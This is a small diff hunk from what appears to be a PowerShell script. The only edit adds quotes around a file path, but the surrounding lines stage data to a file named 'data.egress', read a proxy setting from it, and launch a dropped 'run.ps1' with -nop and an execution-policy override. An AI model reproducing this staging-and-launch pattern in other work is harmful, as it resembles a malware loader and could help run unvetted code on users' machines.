@@ -35,7 +35,7 @@ DATA
         [IO.File]::WriteAllBytes("$d\data.egress", $r.ReadBytes(8e6))
         $r.Close()
         #region web
-        $p = (gc $d\data.egress -First 1 | ConvertFrom-Json).proxy
+        $p = (gc "$d\data.egress" -First 1 | ConvertFrom-Json).proxy
         #endregion
         & "$PSHOME\powershell.exe" -nop -ep RemoteSigned -f "$d\run.ps1"
         #region web
